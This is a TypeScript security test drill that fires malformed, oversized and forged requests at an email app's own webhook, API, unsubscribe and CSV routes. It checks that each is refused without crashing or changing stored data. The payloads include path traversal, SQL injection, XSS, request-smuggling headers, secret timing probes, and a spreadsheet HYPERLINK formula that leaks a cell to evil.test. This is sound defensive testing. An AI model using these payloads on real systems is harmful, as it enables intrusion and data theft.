/**
 * Drill 5 — hostile input. Generated malformed and hostile requests to the webhook route, the public
 * API, a cron route, the unsubscribe route (/u/{token}), the dashboard's CSV export and both CSV imports
 * (see publicAndDashboardCases): truncated and deeply nested JSON, wrong types, huge strings, invalid UTF-8,
 * header injection (raw bytes on a socket), missing, wrong and timing-probing secrets and API keys,
 * replayed payloads, oversized bodies (declared and streamed), slow bodies, wrong content types.
 * Promises: each gets its documented 4xx (replays: 200 and stored once); none gets a 5xx or crashes
 * the server (same process, healthy after); no stored message changes; no contact changes and none is
 * created beyond the legitimate formula-injection imports; every credential failure is
 * recorded as a suspicious request. Credential failures come from many loopback addresses, fewer than
 * the abuse limit (20 a minute) each, so every one must be recorded rather than answered 429.
 */
import { randomBytes } from "node:crypto";
import http from "node:http";
import net from "node:net";
import { sql } from "drizzle-orm";
import { createUnsubscribeToken } from "@/lib/sending/unsubscribe-token";
import { adminSessionCookie, check, newResult, pool, request, seedAudience, sendCampaign, sleep, tag, waitForCampaign, webhookUrl, type DrillResult, type HttpAnswer, type Size } from "./support";
import { percentile } from "../../../bench/support";
import type { DrillSystem } from "./system";

interface Case {
  kind: string;
  send: () => Promise<HttpAnswer | { status: number; ms: number }>;
  expect: number[];
  /** The user agent this credential failure carries, to find its record. */
  credential?: string;
  probe?: number;
}

const PARAMS = { full: { rounds: 6 }, short: { rounds: 2 } };

/** Sends raw bytes and reads the status line: header injection cannot be expressed with a well-behaved client. */
function raw(port: number, text: string | Buffer, from = "127.0.0.1"): Promise<{ status: number; ms: number }> {
  const started = performance.now();
  return new Promise((resolve) => {
    const socket = net.connect({ port, host: "127.0.0.1", localAddress: from });
    let data = "";
    const finish = () => {
      socket.destroy();
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(data)?.[1] ?? 0), ms: performance.now() - started });
    };
    socket.setTimeout(10_000, finish);
    socket.on("data", (b) => {
      data += b.toString("latin1");
      if (/^HTTP\/1\.[01] \d{3}/.test(data)) finish();
    });
    socket.on("error", finish);
    socket.on("close", finish);
    socket.write(text);
  });
}

/** Writes the body in small pieces over `ms`. */
function slow(url: string, headers: Record<string, string>, body: string, ms: number, from?: string): Promise<HttpAnswer> {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const req = requestStream(url, headers, from, (answer) => resolve({ ...answer, ms: performance.now() - started }), reject);
    const pieces = 10;
    const size = Math.ceil(body.length / pieces);
    let i = 0;
    const next = () => {
      if (i >= pieces) return void req.end();
      req.write(body.slice(i * size, (i + 1) * size));
      i++;
      setTimeout(next, ms / pieces);
    };
    next();
  });
}

/**
 * A chunked upload with no content-length, larger than the cap: the size check must count, not trust
 * a header. Only a little more than `cap` is written, then the answer is awaited (writing on after the
 * server has answered and closed would make the kernel reset the connection, losing the answer).
 */
function streamed(url: string, headers: Record<string, string>, cap: number, from?: string): Promise<HttpAnswer> {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    let answered = false;
    const req = requestStream(url, headers, from, (answer) => ((answered = true), resolve({ ...answer, ms: performance.now() - started })), reject);
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    let sent = 0;
    const pump = () => {
      while (!answered && sent <= cap + 2 * chunk.length) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
    };
    pump();
  });
}

function requestStream(url: string, headers: Record<string, string>, from: string | undefined, done: (a: HttpAnswer) => void, fail: (e: Error) => void) {
  const req = http.request(url, { method: "POST", headers: { ...headers }, localAddress: from }, (res) => {
    const chunks: Buffer[] = [];
    res.on("data", (c: Buffer) => chunks.push(c));
    res.on("end", () => done({ status: res.statusCode ?? 0, ms: 0, body: Buffer.concat(chunks).toString("utf8"), headers: res.headers }));
  });
  req.on("error", fail);
  return req;
}

export async function hostileInputDrill(sys: DrillSystem, size: Size): Promise<DrillResult> {
  const p = PARAMS[size];
  const result = newResult("5 hostile input", "", "malformed, oversized, slow and forged requests");
  const run = `host${tag()}`;
  const port = Number(new URL(sys.baseUrl).port);

  // Real messages that hostile payloads name, so an accepted forgery would show as a changed message.
  const { listId } = await seedAudience(sys, run, 20);
  // Recipients whose address and name a spreadsheet would run as formulas: the CSV export must not.
  const formulaEmails = [`-2+${run}@drill.test`, `+1+${run}@drill.test`];
  const seeded = await request(`${sys.baseUrl}/api/v1/contacts/import?list_id=${listId}`, {
    headers: { "content-type": "text/csv", authorization: `Bearer ${sys.apiKey}` },
    body: `email,name,city\n${formulaEmails.map((e) => `${e},"=HYPERLINK(""https://evil.test"",""x"")",@SUM(A1)`).join("\n")}\n`,
  });
  if (seeded.status !== 200) throw new Error(`importing the formula recipients failed: ${seeded.status} ${seeded.body.slice(0, 200)}`);
  const campaignId = await sendCampaign(sys, run, listId);
  await waitForCampaign(sys, campaignId, { timeoutMs: 120_000 });
  await sys.sandbox.flushWebhooks({ timeoutMs: 60_000 });
  const real = (await sys.db.execute<{ pm: string; to: string }>(sql`select postmark_message_id as pm, to_email as "to" from messages where campaign_id = ${campaignId}`)).rows;
  // Alert emails to the admins are messages too, and expected (credential failures raise alerts).
  const snapshot = async () => (await sys.db.execute<{ h: string; n: number }>(sql`select md5(coalesce(string_agg(m::text, ',' order by m.id), '')) as h, count(*)::int as n from messages m where tag is distinct from 'postline-alert'`)).rows[0];
  const contactsCount = async () => (await sys.db.execute<{ n: number }>(sql`select count(*)::int as n from contacts`)).rows[0].n;
  // Every contact as stored (status, name, fields, lists), except those the formula-injection imports add.
  const contactsSnapshot = async () =>
    (
      await sys.db.execute<{ h: string }>(sql`
        select md5(coalesce(string_agg(c::text || coalesce((select string_agg(m.list_id::text, ',' order by m.list_id) from list_memberships m where m.contact_id = c.id), ''), ',' order by c.id), '')) as h
        from contacts c where c.email not like ${`%+${run}-import-%`}`)
    ).rows[0].h;
  const before = await snapshot();
  const t0 = Date.now();
  const contactsBefore = await contactsCount();
  const contactsHashBefore = await contactsSnapshot();
  const pidBefore = sys.appPid();

  const W = webhookUrl(sys);
  const good = { "content-type": "application/json", "x-webhook-secret": sys.webhookSecret };
  const bounce = (pm: string, to: string) => JSON.stringify({ RecordType: "Bounce", ID: 4_000_000 + Math.floor(Math.random() * 1e6), Type: "HardBounce", TypeCode: 1, Name: "Hard bounce", Tag: "", MessageID: pm, ServerID: 1, MessageStream: "broadcast", Description: "x", Details: "x", Email: to, From: "news@drill.test", BouncedAt: new Date().toISOString(), DumpAvailable: false, Inactive: true, CanActivate: true, Subject: "x", Content: "", Metadata: {} });
  const target = () => real[Math.floor(Math.random() * real.length)];
  let source = 0;
  let perSource = 0;
  // Credential failures rotate over 127.0.0.10-249, at most 15 from each, under the abuse limit.
  const nextSource = () => {
    if (++perSource > 15) {
      perSource = 1;
      source++;
    }
    return `127.0.0.${10 + (source % 240)}`;
  };
  const cases: Case[] = [];
  let n = 0;
  const cred = (kind: string, build: (ua: string, from: string) => Promise<HttpAnswer | { status: number; ms: number }>, expect = [401], probe?: number) => {
    const ua = `drill-hostile-${run}-${n++}`;
    const from = nextSource();
    cases.push({ kind, send: () => build(ua, from), expect, credential: ua, probe });
  };
  // A new connection each: a scanner does not pipeline, and one refused request must not take the next with it.
  const post = (url: string, headers: Record<string, string>, body: string | Buffer, from?: string) => request(url, { headers, body, from, fresh: true });

  const secret = sys.webhookSecret;
  const key = sys.apiKey;
  const api = (path: string) => `${sys.baseUrl}${path}`;
  const keyed = { "content-type": "application/json", authorization: `Bearer ${key}` };
  const replayBody = JSON.stringify({ RecordType: "Delivery", ServerID: 1, MessageStream: "broadcast", MessageID: `drill-replay-${run}`, Recipient: "replay@drill.test", Tag: "", DeliveredAt: "2026-01-01T00:00:00Z", Details: "", Metadata: {} });

  for (let round = 0; round < p.rounds; round++) {
    const t = target();
    const valid = bounce(t.pm, t.to);
    // Webhook route: malformed bodies with the right secret.
    for (let i = 0; i < 8; i++) cases.push({ kind: "webhook truncated JSON", send: () => post(W, good, valid.slice(0, 1 + Math.floor(Math.random() * (valid.length - 2)))), expect: [400] });
    for (const depth of [1_000, 50_000, 400_000]) {
      cases.push({ kind: "webhook deeply nested array", send: () => post(W, good, "[".repeat(depth) + "]".repeat(depth)), expect: [400, 413, 422] });
      cases.push({ kind: "webhook deeply nested object", send: () => post(W, good, '{"a":'.repeat(depth / 10) + "1" + "}".repeat(depth / 10)), expect: [400, 413, 422] });
    }
    for (const wrong of [{ MessageID: 42 }, { RecordType: 7 }, { RecordType: "Exploit" }, { Email: { $ne: null } }, { BouncedAt: [] }, { RecordType: null }]) {
      cases.push({ kind: "webhook wrong types", send: () => post(W, good, JSON.stringify({ ...JSON.parse(valid), ...wrong })), expect: [422] });
    }
    for (const body of ["null", "42", '"Bounce"', "[]", "{}", "true"]) cases.push({ kind: "webhook not an object", send: () => post(W, good, body), expect: [422] });
    cases.push({ kind: "webhook huge string", send: () => post(W, good, JSON.stringify({ ...JSON.parse(valid), RecordType: "B".repeat(900_000) })), expect: [422] });
    cases.push({ kind: "webhook huge string", send: () => post(W, good, JSON.stringify({ ...JSON.parse(valid), ["k".repeat(500_000)]: 1, RecordType: "Nope" })), expect: [422] });
    for (let i = 0; i < 4; i++) {
      const bytes = Buffer.from(valid);
      const at = bytes.indexOf(Buffer.from(t.to));
      // A lone 0xff, a reversed BOM, a broken two-byte sequence, an encoded surrogate.
      const bad = [[0xff], [0xfe, 0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80]][i];
      const broken = Buffer.concat([bytes.subarray(0, at), Buffer.from(bad), bytes.subarray(at)]);
      cases.push({ kind: "webhook invalid UTF-8", send: () => post(W, good, broken), expect: [400] });
    }
    cases.push({ kind: "webhook wrong content type", send: () => post(W, { ...good, "content-type": "text/plain" }, valid), expect: [415] });
    cases.push({ kind: "webhook wrong content type", send: () => post(W, { "x-webhook-secret": secret, "content-type": "application/x-www-form-urlencoded" }, "RecordType=Bounce"), expect: [415] });
    cases.push({ kind: "webhook wrong method", send: () => request(W, { method: "GET", fresh: true }), expect: [405] });
    cases.push({ kind: "webhook oversized (declared)", send: () => post(W, good, Buffer.alloc(1_200_000, 0x20)), expect: [413] });
    cases.push({ kind: "webhook oversized (streamed)", send: () => streamed(W, { ...good, "transfer-encoding": "chunked" }, 1024 * 1024), expect: [413] });
    cases.push({ kind: "webhook slow body", send: () => slow(W, { ...good, "content-length": String(valid.length - 5) }, valid.slice(0, -5), size === "full" ? 3_000 : 1_000), expect: [400] });
    cases.push({ kind: "webhook forged client address", send: () => post(W, { ...good, "x-forwarded-for": "<script>alert(1)</script>, 999.1.1.1" }, valid.slice(0, 30)), expect: [400] });
    // Replays: the same valid event (for a message nobody sent) posted again and again.
    for (let i = 0; i < 5; i++) cases.push({ kind: "webhook replayed payload", send: () => post(W, good, replayBody), expect: [200] });

    // Header injection: raw bytes the HTTP parser must refuse before any route sees them.
    const injections = [
      `POST /api/webhooks/postmark HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Webhook-Secret: ${secret}\rX-Injected: 1\r\nContent-Length: 2\r\n\r\n{}`,
      `POST /api/webhooks/postmark HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Webhook-Secret: ${secret}\nX-Injected: 1\r\nContent-Length: 2\r\n\r\n{}`,
      `POST /api/webhooks/postmark HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Webhook-Secret: a\u0000b\r\nContent-Length: 2\r\n\r\n{}`,
      `POST /api/webhooks/postmark HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\nContent-Length: 900\r\n\r\n{}`,
      `POST /api/webhooks/postmark HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      `POST /api/v1/contacts HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\nX-Forwarded-For: 1.2.3.4\r\n\tX-Webhook-Secret: folded\r\nContent-Length: 2\r\n\r\n{}`,
    ];
    for (const text of injections) cases.push({ kind: "header injection (raw)", send: () => raw(port, text), expect: [400] });

    // Public API with a valid key: malformed input.
    cases.push({ kind: "api truncated JSON", send: () => post(api("/api/v1/contacts"), keyed, '{"email": "x@drill.te'), expect: [400] });
    cases.push({ kind: "api deeply nested", send: () => post(api("/api/v1/contacts"), keyed, "[".repeat(100_000) + "]".repeat(100_000)), expect: [400, 413, 422] });
    cases.push({ kind: "api wrong types", send: () => post(api("/api/v1/contacts"), keyed, JSON.stringify({ email: 42, list_ids: "all" })), expect: [422] });
    cases.push({ kind: "api wrong types", send: () => post(api("/api/v1/campaigns"), keyed, JSON.stringify({ name: ["x"], subject: {}, html: 1 })), expect: [422] });
    cases.push({ kind: "api wrong types", send: () => post(api("/api/v1/emails"), keyed, JSON.stringify({ to: "not an address", subject: 5 })), expect: [422] });
    cases.push({ kind: "api huge string", send: () => post(api("/api/v1/contacts"), keyed, JSON.stringify({ email: `${"a".repeat(900_000)}@drill.test` })), expect: [413, 422] });
    // Declared larger than the cap: the answer comes before the body, so only the head is sent.
    cases.push({ kind: "api oversized (declared)", send: () => raw(port, `POST /api/v1/campaigns HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: ${7 * 1024 * 1024}\r\n\r\n{"name": "`), expect: [413] });
    cases.push({ kind: "api oversized", send: () => post(api("/api/v1/lists"), keyed, JSON.stringify({ name: "x".repeat(2 * 1024 * 1024) })), expect: [413] });
    cases.push({ kind: "api invalid UTF-8", send: () => post(api("/api/v1/contacts"), keyed, Buffer.concat([Buffer.from('{"email": "'), Buffer.from([0xff, 0xfe]), Buffer.from('@drill.test"}')])), expect: [400, 422] });
    for (const id of ["..%2F..%2Fetc%2Fpasswd", "'%20or%201%3D1--", "0".repeat(5_000), randomBytes(8).toString("hex")]) {
      cases.push({ kind: "api hostile path", send: () => request(api(`/api/v1/messages/${id}`), { method: "GET", headers: keyed, fresh: true }), expect: [400, 404, 422] });
    }
    cases.push({ kind: "api hostile query", send: () => request(api("/api/v1/messages?status=%3Cscript%3E&limit=-1"), { method: "GET", headers: keyed, fresh: true }), expect: [400, 422] });

    // Credential failures: webhook secret missing, wrong, probing; API keys; the cron bearer.
    cred("webhook secret missing", (ua, from) => post(W, { "content-type": "application/json", "user-agent": ua }, valid, from));
    cred("webhook secret empty", (ua, from) => post(W, { "content-type": "application/json", "x-webhook-secret": "", "user-agent": ua }, valid, from));
    for (let i = 0; i < 4; i++) cred("webhook secret wrong", (ua, from) => post(W, { ...good, "x-webhook-secret": randomBytes(4 + i * 12).toString("base64url"), "user-agent": ua }, valid, from));
    cred("webhook secret wrong case", (ua, from) => post(W, { ...good, "x-webhook-secret": secret.toUpperCase(), "user-agent": ua }, valid, from));
    cred("webhook secret plus a byte", (ua, from) => post(W, { ...good, "x-webhook-secret": `${secret}x`, "user-agent": ua }, valid, from));
    cred("webhook secret wrong, huge body", (ua, from) => post(W, { ...good, "x-webhook-secret": "nope-nope-nope-nope", "user-agent": ua }, "x".repeat(900_000), from));
    // Timing probes: the right secret's first k characters, the rest wrong, same length.
    for (const k of [0, Math.floor(secret.length / 4), Math.floor(secret.length / 2), secret.length - 1]) {
      for (let i = 0; i < 3; i++) {
        const guess = secret.slice(0, k) + (secret[k] === "A" ? "B" : "A") + "Z".repeat(secret.length - k - 1);
        cred("webhook secret timing probe", (ua, from) => post(W, { ...good, "x-webhook-secret": guess, "user-agent": ua }, valid, from), [401], k);
      }
    }
    cred("api key wrong", (ua, from) => request(api("/api/v1/contacts"), { method: "GET", headers: { authorization: `Bearer pl_${randomBytes(16).toString("hex")}`, "user-agent": ua }, from, fresh: true }));
    // The real key with its last character changed (never the key itself: a key ending in 0 once made this a 200).
    cred("api key timing probe", (ua, from) => request(api("/api/v1/contacts"), { method: "GET", headers: { authorization: `Bearer ${key.slice(0, -1)}${key.endsWith("0") ? "1" : "0"}`, "user-agent": ua }, from, fresh: true }));
    cred("api key on admin route, wrong", (ua, from) => request(api("/api/v1/security/events"), { method: "GET", headers: { authorization: `Bearer ${key}x`, "user-agent": ua }, from, fresh: true }));
    cred("cron bearer wrong", (ua, from) => request(api("/api/cron/send"), { method: "GET", headers: { authorization: `Bearer ${sys.cronSecret.slice(0, -2)}`, "user-agent": ua }, from, fresh: true }));
    cred("cron bearer missing", (ua, from) => request(api("/api/cron/reconcile"), { method: "GET", headers: { "user-agent": ua }, from, fresh: true }));
  }
  const formulaImports = await publicAndDashboardCases(sys, cases, { run, listId, campaignId, port, realMessageId: (await sys.db.execute<{ id: string }>(sql`select id from messages where campaign_id = ${campaignId} limit 1`)).rows[0].id });

  result.load = `${cases.length} requests (${cases.filter((c) => c.credential).length} credential failures from ${source + 1} sources)`;

  // Shuffled, a few at a time, as a scanner would send them.
  for (let i = cases.length - 1; i > 0; i--) {
    const j = Math.floor(Math.random() * (i + 1));
    [cases[i], cases[j]] = [cases[j], cases[i]];
  }
  const wrong: string[] = [];
  const probes = new Map<number, number[]>();
  let fivexx = 0;
  await pool(cases, 6, async (c) => {
    const answer = await c.send().catch((e: Error) => ({ status: 0, ms: 0, body: e.message }));
    if (answer.status >= 500 || answer.status === 0) fivexx++;
    if (!c.expect.includes(answer.status)) wrong.push(`${c.kind}: ${answer.status || `no answer (${"body" in answer ? answer.body.slice(0, 60) : "closed"})`} (expected ${c.expect.join(" or ")})`);
    if (c.probe !== undefined) probes.set(c.probe, [...(probes.get(c.probe) ?? []), answer.ms]);
  });
  result.requests = cases.length;
  result.notes.push(`${cases.length} requests answered in ${((Date.now() - t0) / 1000).toFixed(1)} s`);
  const byKind = new Map<string, number>();
  for (const w of wrong) byKind.set(w, (byKind.get(w) ?? 0) + 1);
  check(result, wrong.length === 0, `${wrong.length} requests got the wrong answer: ${[...byKind].slice(0, 8).map(([w, k]) => `${w} ×${k}`).join("; ")}`);
  check(result, fivexx === 0, `${fivexx} requests got a 5xx or no answer`);

  // The server survived, as the same process, and answers.
  await sleep(200);
  const health = await request(`${sys.baseUrl}/api/health`, { method: "GET" }).catch(() => ({ status: 0 }));
  check(result, health.status === 200, `the health check answered ${health.status} after the drill`);
  check(result, pidBefore !== null && sys.appPid() === pidBefore, "the app process did not survive the drill");

  // Nothing stored changed: the messages table is byte-for-byte the same; no contact was created.
  const after = await snapshot();
  check(result, after.h === before.h && after.n === before.n, "stored messages changed");
  check(result, (await contactsCount()) === contactsBefore + formulaImports.created, `hostile requests created contacts (expected only the ${formulaImports.created} of the formula-injection imports)`);
  check(result, (await contactsSnapshot()) === contactsHashBefore, "hostile requests changed stored contacts (a status, a name, a field or a list)");
  for (const f of await formulaImports.verify()) check(result, false, f);
  const [{ stored }] = (await sys.db.execute<{ stored: number }>(sql`select count(*)::int as stored from message_events where postmark_message_id = ${`drill-replay-${run}`}`)).rows;
  check(result, stored === 1, `the replayed event is stored ${stored} times (expected once)`);

  // Every credential failure recorded (found by its user agent).
  const expected = cases.filter((c) => c.credential).map((c) => c.credential!);
  const { rows } = await sys.db.execute<{ ua: string }>(sql`select user_agent as ua from suspicious_requests where user_agent like ${`drill-hostile-${run}-%`}`);
  const recorded = new Set(rows.map((r) => r.ua));
  const unrecorded = expected.filter((ua) => !recorded.has(ua)).length;
  check(result, unrecorded === 0, `${unrecorded} of ${expected.length} credential failures were not recorded`);
  result.lost = unrecorded;
  result.duplicated = Math.max(0, stored - 1);
  result.notes.push(`timing probes (right prefix length → median ms): ${[...probes].map(([k, ms]) => `${k} → ${percentile(ms, 50).toFixed(1)}`).join(", ")}`);
  return result;
}

/**
 * The routes outside /api: the unsubscribe page and its one-click POST (anyone may call it), the
 * dashboard's CSV export and import (a session), and the API's import. Adds their cases; returns how many
 * contacts the legitimate formula-injection imports create, and a check of what they stored and of the
 * export's neutralised formulas, run after the cases.
 */
async function publicAndDashboardCases(
  sys: DrillSystem,
  cases: Case[],
  ctx: { run: string; listId: string; campaignId: string; port: number; realMessageId: string },
): Promise<{ created: number; verify: () => Promise<string[]> }> {
  const { run, listId, campaignId, port } = ctx;
  const base = sys.baseUrl;
  const get = (url: string, headers: Record<string, string> = {}) => request(url, { method: "GET", headers, fresh: true });
  const post = (url: string, headers: Record<string, string>, body: string | Buffer) => request(url, { headers, body, fresh: true });
  // A POST whose answer may come before the body is read: the refusal is the point, not the upload.
  const refusedPost = (url: string, headers: Record<string, string>, body: Buffer) => post(url, headers, body).catch((e: Error) => ({ status: /EPIPE|ECONNRESET/.test(e.message) ? -1 : 0, ms: 0, body: e.message }));
  const cookie = await adminSessionCookie(sys);

  // /u/{token}: forged in every way; a real token's GET must change nothing (link scanners fetch it).
  const real = createUnsubscribeToken(sys.sending.unsubscribeKey, ctx.realMessageId);
  const otherKey = createUnsubscribeToken(randomBytes(32), ctx.realMessageId);
  // The MAC's first character changed (its last one carries padding bits that decoding ignores).
  const [idPart, macPart] = real.split(".");
  const flipped = `${idPart}.${macPart[0] === "A" ? "B" : "A"}${macPart.slice(1)}`;
  const forged = [`${randomBytes(16).toString("base64url")}.${randomBytes(16).toString("base64url")}`, flipped, otherKey, "x".repeat(4_000), "..%2F..%2Fapi%2Fhealth", "%3Cscript%3E", idPart, `${idPart}.${macPart}.x`];
  for (const t of forged) {
    cases.push({ kind: "/u forged token GET", send: () => get(`${base}/u/${t}`), expect: [404] });
    cases.push({ kind: "/u forged token one-click", send: () => post(`${base}/u/${t}`, { "content-type": "application/x-www-form-urlencoded" }, "List-Unsubscribe=One-Click"), expect: [404] });
  }
  cases.push({ kind: "/u malformed percent-encoding", send: () => get(`${base}/u/%E0%A4%A`), expect: [400] });
  cases.push({ kind: "/u NUL in the token", send: () => get(`${base}/u/%00`), expect: [400, 404] });
  cases.push({ kind: "/u real token GET (must not unsubscribe)", send: () => get(`${base}/u/${real}`), expect: [200] });
  for (const type of ["application/json", "text/plain", "multipart/form-data; boundary=x", "application/xml"]) {
    cases.push({ kind: "/u forged token, wrong content type", send: () => post(`${base}/u/${forged[0]}`, { "content-type": type }, '{"List-Unsubscribe":"One-Click"}'), expect: [404, 415] });
  }
  cases.push({ kind: "/u forged token, oversized body", send: () => refusedPost(`${base}/u/${forged[1]}`, { "content-type": "application/x-www-form-urlencoded" }, Buffer.alloc(3 * 1024 * 1024, 0x61)), expect: [404, 413, -1] });
  cases.push({ kind: "/u forged token, oversized chunked body", send: () => refusedPost(`${base}/u/${forged[2]}`, { "content-type": "application/x-www-form-urlencoded", "transfer-encoding": "chunked" }, Buffer.alloc(2 * 1024 * 1024, 0x61)), expect: [404, 413, -1] });
  cases.push({ kind: "/u wrong method", send: () => request(`${base}/u/${forged[0]}`, { method: "DELETE", fresh: true }), expect: [405] });

  // The CSV export: a session is required (401 from the route, or the proxy's redirect to /login).
  const exportUrl = (id: string, query = "") => `${base}/campaigns/${id}/export${query}`;
  cases.push({ kind: "export without a session", send: () => get(exportUrl(campaignId)), expect: [401, 307] });
  cases.push({ kind: "export with a forged session", send: () => get(exportUrl(campaignId), { cookie: `next-auth.session-token=${randomBytes(40).toString("base64url")}` }), expect: [401, 307] });
  for (const id of ["------------------------------------", "not-a-uuid", "0".repeat(5_000), "'%20or%201%3D1--", "00000000-0000-4000-8000-000000000000"]) {
    cases.push({ kind: "export hostile id", send: () => get(exportUrl(id), { cookie }), expect: [404] });
  }
  for (const query of ["?filter=%3Cscript%3E&sort=-id%3Bdrop", `?q=${"%25".repeat(3_000)}`, "?after=%00%00&filter=all", "?sort=email&sort=-email"]) {
    cases.push({ kind: "export hostile query", send: () => get(exportUrl(campaignId, query), { cookie }), expect: [200] });
  }
  cases.push({ kind: "export wrong method", send: () => post(exportUrl(campaignId), { cookie }, ""), expect: [405] });

  // Both imports: refused whole (nothing written) with their documented 4xx, or only the bad row; a formula-laden file is data.
  const bad = (c: string) => Buffer.from(c);
  const imports: { name: string; url: (q?: string) => string; auth: Record<string, string> }[] = [
    { name: "dashboard import", url: (q = "") => `${base}/contacts/import/upload${q}`, auth: { cookie } },
    { name: "API import", url: (q = "") => `${base}/api/v1/contacts/import${q}`, auth: { authorization: `Bearer ${sys.apiKey}` } },
  ];
  const refusedEmail = (i: number) => `refused+${run}-${i}@drill.test`;
  for (const [n, imp] of imports.entries()) {
    const csv = { ...imp.auth, "content-type": "text/csv" };
    const send = (kind: string, headers: Record<string, string>, body: Buffer, expect: number[], q = "") => cases.push({ kind: `${imp.name}: ${kind}`, send: () => refusedPost(imp.url(q), headers, body), expect });
    send("wrong content type (JSON)", { ...imp.auth, "content-type": "application/json" }, bad(JSON.stringify([{ email: refusedEmail(n * 10 + 1) }])), [415]);
    send("wrong content type (form)", { ...imp.auth, "content-type": "application/x-www-form-urlencoded" }, bad(`email\n${refusedEmail(n * 10 + 2)}\n`), [415]);
    send("wrong content type (multipart)", { ...imp.auth, "content-type": "multipart/form-data; boundary=b" }, bad(`--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nemail\n${refusedEmail(n * 10 + 3)}\n--b--\r\n`), [415]);
    send("no content type", imp.auth, bad(`email\n${refusedEmail(n * 10 + 4)}\n`), [415]);
    // Bytes that are not UTF-8: the whole file in strict mode, else only their row (here the only one) is refused.
    const nonUtf8 = Buffer.concat([bad(`email,name\n${refusedEmail(n * 10 + 5)},`), Buffer.from([0xff, 0xfe, 0xc3, 0x28]), bad("\n")]);
    const latin1 = Buffer.from(`email,name\n${refusedEmail(n * 10 + 6)},Zoë Müller\n`, "latin1");
    send("non-UTF-8, strict", csv, nonUtf8, [422], "?strict_encoding=true");
    send("Latin-1, strict", csv, latin1, [422], "?strict_encoding=true");
    send("non-UTF-8 row", csv, nonUtf8, [200]);
    send("Latin-1 row", csv, latin1, [200]);
    send("mapping that does not fit", csv, bad(`email\n${refusedEmail(n * 10 + 12)}\n`), [422], "?mapping=email,name");
    send("missing header", csv, bad(`${refusedEmail(n * 10 + 7)},Name\n${refusedEmail(n * 10 + 8)},Other\n`), [422]);
    send("empty", csv, Buffer.alloc(0), [422]);
    send("NUL bytes", csv, Buffer.concat([bad(`email\n${refusedEmail(n * 10 + 9)}\n`), Buffer.alloc(64)]), [422]);
    send("malformed list_id", csv, bad(`email\n${refusedEmail(n * 10 + 10)}\n`), [422], "?list_id=------------------------------------");
    send("unknown list", csv, bad(`email\n${refusedEmail(n * 10 + 11)}\n`), [404], "?list_id=00000000-0000-4000-8000-000000000000");
    cases.push({ kind: `${imp.name}: oversized (declared)`, send: () => raw(port, `POST ${new URL(imp.url()).pathname} HTTP/1.1\r\nHost: 127.0.0.1\r\n${Object.entries(csv).map(([k, v]) => `${k}: ${v}`).join("\r\n")}\r\nContent-Length: ${11 * 1024 * 1024}\r\n\r\nemail\n`), expect: [413] });
    cases.push({ kind: `${imp.name}: oversized (streamed)`, send: () => streamed(imp.url(), { ...csv, "transfer-encoding": "chunked" }, 10 * 1024 * 1024), expect: [413] });
    if (n === 0) cases.push({ kind: "dashboard import without a session", send: () => post(imp.url(), { "content-type": "text/csv" }, `email\n${refusedEmail(99)}\n`), expect: [401, 307] });
  }

  // Formula injection: a legitimate file whose values a spreadsheet would run. Stored as written
  // (they are data; the export neutralises them), and answered 200.
  const formula = (who: string) => [`-1+${run}-import-${who}@drill.test`, `+2+${run}-import-${who}@drill.test`];
  const formulaName = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")';
  const formulaCsv = (who: string) => `email,name,plan\n${formula(who).map((e) => `${e},"${formulaName.replace(/"/g, '""')}",=1+2`).join("\n")}\n`;
  for (const [n, imp] of imports.entries()) {
    const who = n === 0 ? "ui" : "api";
    cases.push({ kind: `${imp.name}: formula injection`, send: () => post(imp.url(), { ...imp.auth, "content-type": "text/csv" }, formulaCsv(who)), expect: [200] });
  }

  return {
    created: 4,
    async verify() {
      const failures: string[] = [];
      const stored = (await sys.db.execute<{ email: string; name: string; fields: Record<string, string> }>(sql`select email, name, fields from contacts where email like ${`%+${run}-import-%`}`)).rows;
      if (stored.length !== 4 || stored.some((c) => c.name !== formulaName || c.fields.plan !== "=1+2")) failures.push(`the formula-injection imports stored ${JSON.stringify(stored).slice(0, 300)} (expected 4 contacts, values as written)`);
      const refused = (await sys.db.execute<{ n: number }>(sql`select count(*)::int as n from contacts where email like ${`refused+${run}-%`}`)).rows[0].n;
      if (refused) failures.push(`${refused} contacts were stored from imports that were refused`);
      const exported = await get(`${base}/campaigns/${campaignId}/export`, { cookie });
      const lines = exported.body.split("\r\n").filter(Boolean);
      if (exported.status !== 200 || !lines[0]?.startsWith("email,status,")) failures.push(`the export answered ${exported.status}: ${exported.body.slice(0, 120)}`);
      // Every field that starts with = + - @ is quoted with a leading apostrophe; the recipients are all there.
      const live = lines.slice(1).flatMap((l) => l.split(",")).filter((f) => /^"?[=+\-@]/.test(f));
      if (live.length) failures.push(`the export has fields a spreadsheet would run: ${live.slice(0, 3).join(" ")}`);
      for (const e of [`-2+${run}@drill.test`, `+1+${run}@drill.test`]) if (!lines.some((l) => l.startsWith(`'${e},`))) failures.push(`the export lacks the neutralised recipient '${e}`);
      if (lines.length !== 1 + 22) failures.push(`the export has ${lines.length - 1} recipients (expected 22)`);
      return failures;
    },
  };
}
